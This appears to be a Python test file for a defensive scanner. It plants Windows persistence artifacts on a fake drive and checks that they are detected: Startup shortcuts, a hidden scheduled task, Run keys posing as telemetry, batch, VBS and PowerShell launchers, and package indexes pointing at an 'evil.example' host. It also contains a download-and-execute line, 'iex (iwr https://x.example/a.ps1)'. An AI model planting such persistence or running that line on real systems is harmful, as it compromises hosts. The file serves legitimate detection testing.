"""Windows persistence, parsed: Startup-folder shortcuts (real .lnk files) and scripts, Task
Scheduler XML (UTF-16), PowerShell profiles, pip.ini and uv.toml, on a Windows-shaped drive; the
incident's Startup-item and scheduled-task forms."""

from __future__ import annotations

from pathlib import Path
from typing import Dict, Tuple

from builders import FakeRoot
from osimages import windows_image
from persistbuild import shortcut, task_xml, worst
from regf import Hive, expand_sz, sz
from sitesweep.engine import ScanResult
from sitesweep.host.identity import User
from sitesweep.host.model import PersistenceEntry, PersistenceKind
from sitesweep.host.persistence import collect_persistence
from sitesweep.host.persistence_parse import parse_windows_script
from sitesweep.hostfs import HostRoot
from sitesweep.model import Gap, GapReason, Severity
from sitesweep.pipeline import ScanOptions, run_scan

HOME = "/Users/alice"
USERS = (User("alice", 1001, HOME),)
STARTUP = f"{HOME}/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
ALL_STARTUP = "/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"  # as Windows spells it
TASKS = "/Windows/System32/Tasks"
PYTHONW = r"C:\Users\alice\AppData\Local\Programs\Python\Python312\pythonw.exe"
SYSMON = f"{HOME}/.config/sysmon/sysmon.py"

TELEMETRY_LNK = f"{STARTUP}/System Telemetry.lnk"
TELEMETRY_TASK = f"{TASKS}/SystemTelemetry"
VBS = f"{ALL_STARTUP}/update.vbs"
BAT = f"{STARTUP}/sync.bat"
MOVED = f"{STARTUP}/helper.bat"  # the poller's name, somewhere else: no telemetry name
PS_PROFILE = f"{HOME}/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1"
PIP_INI = f"{HOME}/AppData/Roaming/pip/pip.ini"
UV_TOML = f"{HOME}/AppData/Roaming/uv/uv.toml"

ONENOTE_LNK = f"{STARTUP}/Send to OneNote.lnk"
DESKTOP_INI = f"{ALL_STARTUP}/desktop.ini"
DEFRAG_TASK = f"{TASKS}/Microsoft/Windows/Defrag/ScheduledDefrag"
GOOGLE_TASK = f"{TASKS}/GoogleUpdateTaskMachineCore"
BACKUP_TASK = f"{TASKS}/Backup Notes"
PS7_PROFILE = f"{HOME}/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"
BROKEN_TASK = f"{TASKS}/Broken"
DTD_TASK = f"{TASKS}/Entities"

SOFTWARE = "/Windows/System32/config/SOFTWARE"
NTUSER = f"{HOME}/NTUSER.DAT"
RUN = r"Microsoft\Windows\CurrentVersion\Run"
ALICE_SID = "S-1-5-21-1004336348-1177238915-682003330-1001"


def hives(root: FakeRoot) -> None:
    """The SOFTWARE hive (machine Run keys, ProfileList) and Alice's NTUSER.DAT."""
    software = Hive("SOFTWARE")
    profiles = r"Microsoft\Windows NT\CurrentVersion\ProfileList"
    software.set(rf"{profiles}\{ALICE_SID}", "ProfileImagePath", expand_sz(r"C:\Users\alice"))
    software.set(RUN, "SecurityHealth", expand_sz(r"%windir%\system32\SecurityHealthSystray.exe"))
    software.set(
        rf"WOW6432Node\{RUN}",
        "Updater",
        sz(r"C:\ProgramData\.cache\pythonw.exe C:\ProgramData\.cache\upd.py"),
    )
    software.write(root.host(SOFTWARE))
    user = Hive("NTUSER.DAT")
    user.set(
        rf"Software\{RUN}",
        "OneDrive",
        sz(r'"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background'),
    )
    user.set(
        rf"Software\{RUN}",
        "System Telemetry",
        sz(r'pythonw.exe "%USERPROFILE%\.config\sysmon\sysmon.py"'),
    )
    user.set(
        rf"Software\{RUN}Once",
        "cleanup",
        sz(r"C:\Users\alice\AppData\Local\Temp\c1\python.exe -m cleanup"),
    )
    user.write(root.host(NTUSER))


PLANTED = {
    TELEMETRY_LNK: Severity.CRITICAL,
    TELEMETRY_TASK: Severity.CRITICAL,
    SYSMON: Severity.CRITICAL,
    VBS: Severity.HIGH,
    BAT: Severity.HIGH,
    MOVED: Severity.HIGH,
    PS_PROFILE: Severity.HIGH,
    PIP_INI: Severity.MEDIUM,
    UV_TOML: Severity.MEDIUM,
    NTUSER: Severity.CRITICAL,  # the Run value posing as telemetry (decoys: test below)
    SOFTWARE: Severity.HIGH,  # WOW6432Node Run value starting Python from a dot-directory
}
DECOYS = (
    ONENOTE_LNK,
    DESKTOP_INI,
    DEFRAG_TASK,
    GOOGLE_TASK,
    BACKUP_TASK,
    PS7_PROFILE,
    BROKEN_TASK,
    DTD_TASK,
)


def windows_drive(tmp_path: Path) -> FakeRoot:
    """A Windows system drive (C:) with one user, Alice, and the incident's forms planted."""
    root = windows_image(FakeRoot(tmp_path / "win"), software_hive=False)
    root.add_dir(HOME)
    hives(root)
    canary = f"open({str(root.marker)!r}, 'a').write('executed\\n')  # fixture stand-in\n"
    root.add_file(SYSMON, canary)
    root.add_file(
        TELEMETRY_LNK,
        shortcut(
            PYTHONW,
            r'"C:\Users\alice\.config\sysmon\sysmon.py"',
            working_dir=r"C:\Users\alice",
            description="System Telemetry Service",
        ),
    )
    root.add_file(
        TELEMETRY_TASK,
        task_xml(
            r"\SystemTelemetry",
            r"%LOCALAPPDATA%\Programs\Python\Python312\pythonw.exe",
            r'"%USERPROFILE%\.config\sysmon\sysmon.py"',
            description="System Telemetry Service",
            hidden=True,
        ),
    )
    root.add_file(
        VBS,
        'Set sh = CreateObject("WScript.Shell")\r\n'
        'sh.Run "pythonw.exe C:\\Users\\Public\\Libraries\\.cache\\svc.py", 0, False\r\n',
    )
    root.add_file("/Users/Public/Libraries/.cache/svc.py", canary)
    root.add_file(
        BAT,
        "@echo off\r\nset PYTHONUNBUFFERED=1\r\n"
        'start "" /b "C:\\Users\\alice\\AppData\\Local\\Temp\\upd\\python.exe" '
        '"C:\\Users\\alice\\AppData\\Local\\Temp\\upd\\run.py"\r\n',
    )
    root.add_file(MOVED, "@echo off\r\npythonw.exe %APPDATA%\\sysmon\\sysmon.py\r\n")
    root.add_file(
        PS_PROFILE,
        b"\xef\xbb\xbf# profile\r\n"
        b"Start-Process -WindowStyle Hidden pythonw.exe -ArgumentList "
        b'"C:\\Users\\alice\\AppData\\Roaming\\.sys\\agent.py"\r\n',
    )
    root.add_file(
        PIP_INI, "[global]\r\nindex-url = https://alice:pat-51c0ffee@pkgs.evil.example/simple\r\n"
    )
    root.add_file(UV_TOML, '[[index]]\nurl = "https://mirror.evil.example/simple"\n')
    # what a Windows laptop holds anyway
    root.add_file(
        ONENOTE_LNK,
        shortcut(
            r"C:\Program Files\Microsoft Office\root\Office16\ONENOTEM.EXE",
            "/tsr",
            description="Send to OneNote",
        ),
    )
    root.add_file(DESKTOP_INI, "\ufeff[.ShellClassInfo]\r\nLocalizedResourceName=@x\r\n")
    root.add_file(
        DEFRAG_TASK,
        task_xml(
            r"\Microsoft\Windows\Defrag\ScheduledDefrag",
            r"%windir%\system32\defrag.exe",
            "-c -h -o -$",
            triggers=("CalendarTrigger",),
            user_id="S-1-5-18",
        ),
    )
    root.add_file(
        GOOGLE_TASK,
        task_xml(
            r"\GoogleUpdateTaskMachineCore",
            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe",
            "/c",
            triggers=("LogonTrigger", "CalendarTrigger"),
        ),
    )
    root.add_file(
        BACKUP_TASK,
        task_xml(
            r"\Backup Notes",
            r"C:\Users\alice\AppData\Local\Programs\Python\Python312\python.exe",
            r"C:\Users\alice\scripts\backup.py",
            triggers=("CalendarTrigger",),
        ),
    )
    root.add_file(
        PS7_PROFILE,
        "Import-Module posh-git\r\noh-my-posh init pwsh | Invoke-Expression\r\n",
    )
    root.add_file(BROKEN_TASK, b"\xff\xfe" + "<Task><Actions>".encode("utf-16-le"))
    root.add_file(
        DTD_TASK,
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaa">]><Task>&a;</Task>',
    )
    return root


def collect(root: FakeRoot) -> Tuple[Dict[str, PersistenceEntry], Tuple[Gap, ...]]:
    entries, gaps = collect_persistence(HostRoot(root.path), USERS, os_name="windows")
    return {e.path: e for e in entries}, gaps


def judge(root: FakeRoot) -> ScanResult:
    """Scan the drive: accounts from the SOFTWARE hive's ProfileList, the Windows catalogue."""
    result = run_scan(ScanOptions(root=root.path, strict=True)).result
    assert "alice" in {u.name for u in result.inventory.users}
    return result


def test_windows_persistence_found_at_its_severity_and_decoys_stay_low(tmp_path: Path) -> None:
    root = windows_drive(tmp_path)
    result = judge(root)
    found = {path: worst(result.findings, path) for path in PLANTED}
    assert found == PLANTED
    for decoy in DECOYS:
        assert worst(result.findings, decoy).rank <= Severity.LOW.rank, decoy
    posing = {p for f in result.findings if f.rule.endswith("/telemetry-service") for p in f.paths}
    assert posing == {TELEMETRY_LNK, TELEMETRY_TASK, NTUSER}
    titles = [f.title for f in result.findings if f.rule.endswith("/telemetry-service")]
    assert any("C:\\Windows\\System32\\Tasks\\SystemTelemetry" in t for t in titles)
    assert "pat-51c0ffee" not in repr(result)
    assert not root.marker.exists()


def test_shortcuts_tasks_and_scripts_are_parsed(tmp_path: Path) -> None:
    by_path, gaps = collect(windows_drive(tmp_path))
    lnk = by_path[TELEMETRY_LNK]
    assert lnk.kind is PersistenceKind.STARTUP_FOLDER
    assert lnk.description == "System Telemetry Service"
    assert lnk.commands == (f'"{PYTHONW}" "C:\\Users\\alice\\.config\\sysmon\\sysmon.py"',)
    assert lnk.programs == (
        "/Users/alice/AppData/Local/Programs/Python/Python312/pythonw.exe",
        SYSMON,
    )
    task = by_path[TELEMETRY_TASK]
    assert task.kind is PersistenceKind.SCHEDULED_TASK
    assert task.label == "\\SystemTelemetry"
    assert task.triggers == ("LogonTrigger", "Hidden")
    assert task.programs[-1] == SYSMON  # %USERPROFILE% of the task's author, Alice
    assert by_path[ONENOTE_LNK].programs == (
        "/Program Files/Microsoft Office/root/Office16/ONENOTEM.EXE",
    )
    assert by_path[DEFRAG_TASK].programs == ("/Windows/system32/defrag.exe",)
    assert by_path[VBS].commands == ("pythonw.exe C:\\Users\\Public\\Libraries\\.cache\\svc.py",)
    assert by_path[BAT].variables == ("PYTHONUNBUFFERED",)
    assert by_path[BAT].programs == (
        "/Users/alice/AppData/Local/Temp/upd/python.exe",
        "/Users/alice/AppData/Local/Temp/upd/run.py",
    )
    assert by_path[PS_PROFILE].kind is PersistenceKind.POWERSHELL_PROFILE
    assert by_path[PS_PROFILE].programs[-1] == "/Users/alice/AppData/Roaming/.sys/agent.py"
    assert by_path[PIP_INI].index_urls == ("https://<redacted>@pkgs.evil.example/simple",)
    assert by_path[PIP_INI].copyable is False
    assert by_path[UV_TOML].index_urls == ("https://mirror.evil.example/simple",)
    assert DESKTOP_INI in by_path  # the all-users folder matched as Windows spells it
    problems = {g.path: g.reason for g in gaps}
    assert problems == {BROKEN_TASK: GapReason.PARSE_ERROR, DTD_TASK: GapReason.PARSE_ERROR}
    assert by_path[BROKEN_TASK].sha256 is not None


def test_run_keys_from_software_and_ntuser_hives(tmp_path: Path) -> None:
    root = windows_drive(tmp_path)
    entries, gaps = collect_persistence(HostRoot(root.path), USERS, os_name="windows")
    assert {g.path for g in gaps} == {BROKEN_TASK, DTD_TASK}  # none about the hives
    runs = {(e.key, e.label): e for e in entries if e.kind is PersistenceKind.REGISTRY_RUN}
    assert set(runs) == {
        (rf"HKLM\SOFTWARE\{RUN}", "SecurityHealth"),
        (rf"HKLM\SOFTWARE\WOW6432Node\{RUN}", "Updater"),
        (rf"HKU\alice\Software\{RUN}", "OneDrive"),
        (rf"HKU\alice\Software\{RUN}", "System Telemetry"),
        (rf"HKU\alice\Software\{RUN}Once", "cleanup"),
    }
    telemetry = runs[(rf"HKU\alice\Software\{RUN}", "System Telemetry")]
    assert telemetry.path == NTUSER
    assert telemetry.programs == ("/Users/alice/.config/sysmon/sysmon.py",)
    assert telemetry.copyable is False
    assert runs[(rf"HKLM\SOFTWARE\{RUN}", "SecurityHealth")].programs == (
        "/Windows/system32/SecurityHealthSystray.exe",
    )
    result = judge(root)
    graded = {
        (e.value, f.severity)
        for f in result.findings
        for e in f.evidence
        if e.label == "name" and (NTUSER in f.paths or SOFTWARE in f.paths)
    }
    assert ("System Telemetry", Severity.CRITICAL) in graded
    assert ("cleanup", Severity.HIGH) in graded
    assert ("Updater", Severity.HIGH) in graded
    assert not {name for name, _ in graded} & {"OneDrive", "SecurityHealth"}
    assert not root.marker.exists()


def test_a_damaged_hive_is_a_gap_and_the_rest_is_read(tmp_path: Path) -> None:
    root = FakeRoot(tmp_path / "win")
    root.add_file(NTUSER, b"regf" + b"\x00" * 600)
    root.add_file(f"{STARTUP}/run.bat", "python C:\\Users\\alice\\.x\\a.py\r\n")
    by_path, gaps = collect(root)
    assert f"{STARTUP}/run.bat" in by_path
    assert [(g.path, g.reason) for g in gaps] == [(NTUSER, GapReason.PARSE_ERROR)]


def test_a_damaged_shortcut_is_recorded_with_a_gap(tmp_path: Path) -> None:
    root = FakeRoot(tmp_path / "win")
    good = shortcut(PYTHONW, "x.py")
    root.add_file(f"{STARTUP}/cut.lnk", good[:90])
    root.add_file(f"{STARTUP}/notlnk.lnk", b"MZ\x90\x00")
    by_path, gaps = collect(root)
    assert set(by_path) == {f"{STARTUP}/cut.lnk", f"{STARTUP}/notlnk.lnk"}
    assert {g.path for g in gaps if g.reason is GapReason.PARSE_ERROR} == set(by_path)


def test_script_lines_that_run_something() -> None:
    batch = parse_windows_script("rem x\r\ncd /d %~dp0\r\ncall run.cmd\r\necho hi\r\n", ".bat")
    assert batch.commands == ("call run.cmd",)
    ps = parse_windows_script(
        "<#\r\nStart-Process evil.exe\r\n#>\r\n$env:PIP_INDEX_URL = 'https://u:p@x.example/s'\r\n"
        "Set-Alias ll Get-ChildItem\r\niex (iwr https://x.example/a.ps1)\r\n",
        ".ps1",
    )
    assert ps.commands == ("iex (iwr https://x.example/a.ps1)",)
    assert ps.variables == ("PIP_INDEX_URL",)
    assert ps.index_urls == ("https://<redacted>@x.example/s",)
    assert ps.secret is True
